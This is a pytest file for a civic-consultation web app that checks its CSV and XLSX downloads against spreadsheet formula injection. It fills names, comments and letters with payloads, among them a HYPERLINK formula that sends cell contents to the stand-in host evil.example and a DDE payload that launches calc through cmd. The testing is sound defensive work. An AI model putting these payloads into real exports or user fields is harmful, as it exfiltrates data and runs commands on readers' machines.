"""Formulas in what people download (CSV injection, CWE-1236): a spreadsheet runs what somebody
has written as their name, and sends the table elsewhere.

The known case is CVE-2022-3026, an export of the users of WordPress, whose names anybody could
choose. Here citizens, guests, letters and workshops say formulas wherever they may say something,
and every table that anybody can download is read again by others.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from flask import Flask

from charta.accounts.models import Person
from charta.charters.models import Charter, Theme
from charta.consultation.models import Round
from charta.core import clock, outbox
from charta.core.database import db, transaction
from charta.drafting.models import Document
from charta.papers.models import Paper
from charta.papers.rules import FORMATS, Format, Kind
from charta.papers.views import NAMES
from tests.support.cast import Cast, a_city, sign_in
from tests.support.consultation import CLOSES, DURING, a_comment, a_round, an_answer
from tests.support.drafting import a_clause
from tests.support.intake import an_excerpt, an_intake
from tests.support.suggestions import a_suggestion
from tests.support.visitor import Visitor
from tests.support.workshops import a_workshop, an_idea

pytestmark = pytest.mark.one_engine

PAPERS = "/stralsund/schreibtisch/unterlagen/"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"hier")'
FORMULAS = (LINK, "+cmd|'/c calc'!A1", "-2+3", "@SUM(1+1)", "＝1+1", "\t=1+1")
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TABLES = (Format.CSV, Format.XLSX)


@pytest.fixture
def town(app: Flask) -> Cast:
    """A city in which everybody says formulas."""
    app.extensions["charta.clock"] = lambda: DURING
    with app.app_context():
        city = a_city()
        clause = a_clause(city, title="=1+1 Wege", source="Die Stadt baut sichere Radwege.")
        with transaction() as session:
            session.get_one(Person, city.citizen.person_id).name = LINK
            session.get_one(Charter, city.charter_id).name = "=1+1 Charta"
            session.get_one(Theme, city.themes["MOB"]).name = "=1+1 Mobilität"
            an_idea(city, a_workshop(city, "=1+1 Treffen", opened=True), LINK)
        found = a_round(city, title="=1+1 Beteiligung")
        for words in FORMULAS:
            an_answer(city, a_comment(city, found, clause, source=words), source=words)
        a_suggestion(city, found, clause, wording=LINK, source=LINK)
        _letters(city, found, clause)
    app.extensions["charta.clock"] = lambda: CLOSES
    return city


def _letters(city: Cast, found: Round, clause: Document) -> None:
    letter = an_intake(
        city,
        found,
        source=f"{LINK}\n\nMehr Bänke.",
        public_name="=1+1 Verband",
        sender_name=LINK,
        sender_address=LINK,
    )
    an_excerpt(city, letter, clause, LINK)


def cells_of(content: bytes, kind: Format) -> Iterator[str]:
    """What a spreadsheet would run if it wanted to."""
    if kind is Format.XLSX:
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type in {"s", "d", "n"}, (cell.coordinate, cell.value)
                    assert cell.hyperlink is None
                    yield str(cell.value or "")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not [one for one in archive.namelist() if "externalLink" in one]
            assert b"<f>" not in b"".join(archive.read(one) for one in archive.namelist())
        return
    for line in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
        for words in line:
            assert not words.startswith(BEGINS), words
            yield words


def fetched(visitor: Visitor, path: str) -> bytes:
    answer = visitor.client.get(path)
    assert answer.status_code == 200, path
    content = answer.get_data()
    answer.close()
    return content


@pytest.mark.parametrize("named", ["nein", "ja"])
def test_no_paper_runs_anything(app: Flask, town: Cast, named: str) -> None:
    editor = Visitor(sign_in(app.test_client(), town.editor))
    for kind, formats in FORMATS.items():
        for one in set(formats) & set(TABLES):
            page = editor.open(f"{PAPERS}{NAMES[kind]}/")
            page.press("Papier erstellen", format=one.value, names=named)
    with app.app_context():
        outbox.deliver_due(clock.now())
        papers = {paper.id: Format(paper.format) for paper in db.session.query(Paper)}
    assert set(papers.values()) == set(TABLES)
    for number, made in papers.items():
        told = list(cells_of(fetched(editor, f"{PAPERS}{number}/datei/"), made))
        assert len([words for words in told if "HYPERLINK" in words]) > 3, "nobody said anything"


def test_no_ledger_runs_anything(app: Flask, town: Cast) -> None:
    public = Visitor(app.test_client())
    for path in ("/stralsund/bilanz.csv", "/stralsund/beteiligung/1/bilanz.csv"):
        told = list(cells_of(fetched(public, path), Format.CSV))
        assert "'=1+1 Beteiligung" in told
        assert "'=1+1 Mobilität" in told


def test_there_are_no_other_tables(app: Flask) -> None:
    """A new one must come here."""
    endings = (".csv", ".xlsx", ".ods", ".tsv")
    found = {one.endpoint for one in app.url_map.iter_rules() if one.rule.endswith(endings)}
    ours = {"moderation.transparency_csv"}  # words of ours and numbers alone
    assert found - ours == {"site.ledger_csv", "site.round_ledger_csv"}
    assert [kind for kind in Kind if set(FORMATS[kind]) & set(TABLES)] == [Kind.WEIGHING]
